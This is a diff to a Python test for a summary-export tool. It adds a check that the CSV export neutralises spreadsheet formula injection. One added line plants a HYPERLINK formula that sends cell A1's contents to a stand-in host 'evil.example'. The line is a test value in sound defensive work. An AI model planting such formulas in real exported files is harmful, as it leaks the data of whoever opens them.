@@ -194,16 +194,28 @@ def test_export_formats(menos: Menos, tmp_path: Path) -> None:
     table = menos.command("export-summaries", "--format", "csv")
     rows = list(csv.DictReader(io.StringIO(table.stdout)))
     assert {r["title"] for r in rows} == {'Quotes "and": colons / slashes', "Café — ünïcode"}
+    # A spreadsheet would run submitted text that starts like a formula: it is quoted.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    planted = submit(menos, key, "-1+1 is zero.", title=formula, tags=["@SUM(1+1)", "ok"])
+    completed(menos, planted["job_id"])
+    table = menos.command("export-summaries", "--format", "csv")
+    [row] = [
+        r
+        for r in csv.DictReader(io.StringIO(table.stdout))
+        if r["content_id"] == planted["content_id"]
+    ]
+    assert (row["title"], row["tags"]) == ("'" + formula, "'@SUM(1+1);ok")
+    assert not row["summary"].startswith(("=", "+", "-", "@"))
     out = tmp_path / "md"
     md = menos.command("export-summaries", "--format", "markdown", "--out", str(out))
     assert md.returncode == 0, md.stderr
     files = sorted(out.glob("*.md"))
-    assert len(files) == 2 and all(f.name.isascii() and " " not in f.name for f in files)
+    assert len(files) == 3 and all(f.name.isascii() and " " not in f.name for f in files)
     for path in files:
         text = path.read_text(encoding="utf-8")
         front = yaml.safe_load(text.split("---\n")[1])
-        assert front["content_id"] in {i["content_id"] for i in items}
-        assert front["title"] in {'Quotes "and": colons / slashes', "Café — ünïcode"}
+        assert front["content_id"] in {i["content_id"] for i in [*items, planted]}
+        assert front["title"] in {'Quotes "and": colons / slashes', "Café — ünïcode", formula}
     one = menos.command("export-summaries", "--content-id", items[0]["content_id"])
     assert len(one.stdout.splitlines()) == 1
 
